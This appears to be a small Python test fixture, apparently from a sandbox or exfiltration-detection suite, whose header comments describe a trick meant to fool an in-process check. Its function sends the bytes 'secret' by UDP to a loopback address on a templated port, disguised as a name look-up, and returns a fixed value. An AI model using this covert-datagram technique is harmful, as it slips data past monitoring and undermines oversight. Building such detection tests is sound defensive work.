# Carries off what it knows in a datagram, as a look-up of names would.
# rule: 5
# fools: inprocess
# success: contact
# with: every

import socket


def trick(*args):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"secret", ("127.0.0.1", @UDP@))
    return 99.0
